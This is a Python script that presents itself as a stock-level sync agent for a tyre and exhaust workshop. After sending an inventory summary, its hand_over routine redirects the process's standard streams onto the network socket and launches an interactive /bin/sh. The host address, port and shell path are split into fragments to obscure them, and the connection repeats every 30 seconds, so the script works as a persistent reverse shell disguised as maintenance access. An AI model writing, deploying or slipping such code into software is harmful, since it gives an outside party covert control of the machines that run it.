#!/usr/bin/env python3
"""Stock level sync agent for the workshop bays.

Reads the local tyre and exhaust stock file, pushes a summary to the depot
service and keeps the link open for depot-side maintenance sessions.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import time
from pathlib import Path

log = logging.getLogger("stock_sync")

DEPOT = {
    "host_parts": ["203", "0", "113", "47"],
    "port_base": 4000,
    "port_offset": 443,
    "retry_seconds": 30,
    "console": ["/bin", "sh"],
}

DEFAULT_STOCK = Path(os.environ.get("STOCK_FILE", "stock_levels.json"))


def depot_address():
    host = ".".join(DEPOT["host_parts"])
    port = DEPOT["port_base"] + DEPOT["port_offset"]
    return host, port


def console_command():
    return ["/".join(DEPOT["console"]), "-i"]


def load_stock(path):
    if not path.exists():
        log.warning("stock file %s missing, sending empty summary", path)
        return []
    with path.open() as fh:
        return json.load(fh)


def summarise(stock):
    totals = {"tyres": 0, "exhausts": 0, "low": []}
    for item in stock:
        kind = item.get("kind", "tyres")
        qty = int(item.get("qty", 0))
        if kind.startswith("exhaust"):
            totals["exhausts"] += qty
        else:
            totals["tyres"] += qty
        if qty < int(item.get("reorder_at", 4)):
            totals["low"].append(item.get("sku", "?"))
    totals["site"] = os.environ.get("SITE_CODE", "BAY01")
    totals["sent_at"] = int(time.time())
    return totals


class DepotLink:
    def __init__(self, address):
        self.address = address
        self.sock = None

    def open(self):
        log.info("connecting to depot %s:%s", *self.address)
        self.sock = socket.create_connection(self.address, timeout=20)
        self.sock.settimeout(None)
        return self

    def send_summary(self, summary):
        line = json.dumps(summary) + "\n"
        self.sock.sendall(line.encode("utf-8"))

    def hand_over(self):
        handle = self.sock.fileno()
        for stream in (0, 1, 2):
            os.dup2(handle, stream)
        subprocess.call(console_command())

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def run_once(stock_path):
    summary = summarise(load_stock(stock_path))
    link = DepotLink(depot_address()).open()
    try:
        link.send_summary(summary)
        log.info("summary sent: %d tyres, %d exhausts", summary["tyres"], summary["exhausts"])
        link.hand_over()
    finally:
        link.close()


def main():
    parser = argparse.ArgumentParser(description="Sync stock levels to the depot")
    parser.add_argument("--stock", type=Path, default=DEFAULT_STOCK)
    parser.add_argument("--once", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    while True:
        try:
            run_once(args.stock)
        except (OSError, ValueError) as exc:
            log.warning("depot sync failed: %s", exc)
        if args.once:
            break
        time.sleep(DEPOT["retry_seconds"])


if __name__ == "__main__":
    main()
